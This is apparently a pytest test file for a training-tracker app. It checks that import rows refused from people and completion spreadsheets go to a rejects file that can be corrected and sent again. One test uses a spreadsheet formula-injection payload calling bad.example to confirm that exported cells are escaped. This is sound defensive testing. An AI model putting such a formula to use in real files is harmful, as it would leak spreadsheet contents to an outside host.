"""The file of refused rows: in the layout of the file it came from, harmless to open, and fit to be sent again."""

import csv
from datetime import date
from pathlib import Path

import pytest
import xlsxwriter

from tests.intake.spreadsheets import (
    LARGEST,
    PEOPLE,
    Row,
    bring_completions,
    bring_people,
    completion,
    completions_file,
    jobs,
    lines,
    people_file,
    person,
    write_csv,
)
from training_tracker.database import Database
from training_tracker.errors import Refused
from training_tracker.intake.completions import read_completions
from training_tracker.intake.outcome import TO_MEND, ImportOutcome, write_rejects
from training_tracker.intake.people import read_people
from training_tracker.intake.tables import Table


def rejected(file: Path, outcome: ImportOutcome) -> tuple[Path, Table]:
    rejects = write_rejects(file, read_people(file, LARGEST), outcome)
    assert rejects is not None
    return rejects, read_people(rejects, LARGEST)


def rejected_completions(file: Path, outcome: ImportOutcome) -> tuple[Path, Table]:
    rejects = write_rejects(file, read_completions(file, LARGEST), outcome)
    assert rejects is not None
    return rejects, read_completions(rejects, LARGEST)


def mended(table: Table, folder: Path, name: str, changes: Row) -> Path:
    """The rejects file, with some cells corrected and saved again."""
    rows: list[Row] = [dict(zip(table.headings, row.as_written, strict=False)) | changes for row in table.rows]
    if name.endswith(".csv"):
        return write_csv(folder / name, lines(table.headings, rows))
    with xlsxwriter.Workbook(folder / name) as workbook:
        sheet = workbook.add_worksheet()
        for at, row in enumerate(lines(table.headings, rows)):
            sheet.write_row(at, 0, row)
    return folder / name


@pytest.mark.parametrize("name", ["people.csv", "people.xlsx"])
async def test_refused_rows_can_be_mended_and_sent_again(configured: Database, tmp_path: Path, name: str) -> None:
    good, bad = person(number="007"), person(name="Kim Ng", email="kim@harbour.example", number="0042", role="Boss")
    file = people_file(tmp_path, good, bad | {"started on": date(2025, 3, 14)}, name=name)
    outcome = await bring_people(configured, file)
    rejects, table = rejected(file, outcome)
    assert rejects.name == f"people.rejects{file.suffix}"
    assert table.headings == [*PEOPLE, TO_MEND]
    assert table.ignored == [TO_MEND]
    (row,) = table.rows
    assert row.cells["employee number"] == "0042"
    assert str(row.as_written[-1]).startswith("role: This sector has no role Boss. ")
    outcome = await bring_people(configured, mended(table, tmp_path, f"mended{file.suffix}", {"role": "Midwife"}))
    assert (outcome.accepted, outcome.refused) == (1, [])
    assert (await jobs(configured))[1][0] == "Kim Ng"
    assert (await jobs(configured))[1][4] == date(2025, 3, 14)


async def test_refused_completions_can_be_mended_and_sent_again(configured: Database, tmp_path: Path) -> None:
    await bring_people(configured, people_file(tmp_path, person()))
    file = completions_file(tmp_path, completion(), completion(item="Nothing", completed="2025-04-01"))
    outcome = await bring_completions(configured, file)
    _, table = rejected_completions(file, outcome)
    again = await bring_completions(configured, mended(table, tmp_path, "mended.csv", {"item": "HSB"}))
    assert (again.accepted, again.refused) == (1, [])


@pytest.mark.parametrize("kind", ["sqlite"])
async def test_rows_that_are_refused_again_keep_one_column_of_reasons(configured: Database, tmp_path: Path) -> None:
    file = people_file(tmp_path, person(role="Boss"))
    rejects, _ = rejected(file, await bring_people(configured, file))
    again, table = rejected(rejects, await bring_people(configured, rejects))
    assert again.name == "people.rejects.rejects.csv"
    assert table.headings == [*PEOPLE, TO_MEND]


@pytest.mark.parametrize("kind", ["sqlite"])
async def test_columns_we_do_not_know_are_kept_for_the_sender(configured: Database, tmp_path: Path) -> None:
    row = person(role="Boss") | {"pay band": "7"}
    file = write_csv(tmp_path / "people.csv", lines(list(row), [row]))
    _, table = rejected(file, await bring_people(configured, file))
    assert table.headings == [*row, TO_MEND]
    assert table.rows[0].as_written[-2] == "7"


@pytest.mark.parametrize("kind", ["sqlite"])
async def test_a_formula_is_written_so_that_no_spreadsheet_runs_it(configured: Database, tmp_path: Path) -> None:
    attack = '=HYPERLINK("https://bad.example?x="&A1,"Ann")'
    row = person(name=attack) | {"@SUM(1)": "+1+1"}
    file = write_csv(tmp_path / "people.csv", lines(list(row), [row]))
    rejects, table = rejected(file, await bring_people(configured, file))
    with rejects.open(encoding="utf-8-sig", newline="") as stream:
        cells = [cell for line in csv.reader(stream) for cell in line]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert f"'{attack}" in cells
    again = await bring_people(configured, mended(table, tmp_path, "mended.csv", {}))
    assert again.refused[0].field == "name"


@pytest.mark.parametrize("kind", ["sqlite"])
async def test_without_refusals_there_is_no_file(configured: Database, tmp_path: Path) -> None:
    file = people_file(tmp_path, person())
    outcome = await bring_people(configured, file)
    assert write_rejects(file, read_people(file, LARGEST), outcome) is None
    assert not (tmp_path / "people.rejects.csv").exists()


@pytest.mark.parametrize("name", ["people.csv", "people.xlsx"])
@pytest.mark.parametrize("kind", ["sqlite"])
async def test_a_file_that_cannot_be_written_is_told(configured: Database, tmp_path: Path, name: str) -> None:
    file = people_file(tmp_path, person(role="Boss"), name=name)
    outcome = await bring_people(configured, file)
    table = read_people(file, LARGEST)
    with pytest.raises(Refused, match="cannot be written"):
        write_rejects(tmp_path / "a folder that is gone" / file.name, table, outcome)


async def test_an_earlier_file_of_rejects_that_may_be_half_mended_is_kept(configured: Database, tmp_path: Path) -> None:
    file = people_file(tmp_path, person(role="Wizard"))
    first, _ = rejected(file, await bring_people(configured, file))
    first.write_text("half mended")
    second, _ = rejected(file, await bring_people(configured, file))
    third, _ = rejected(file, await bring_people(configured, file))
    assert [second.name, third.name] == ["people.rejects-2.csv", "people.rejects-3.csv"]
    assert first.read_text() == "half mended"
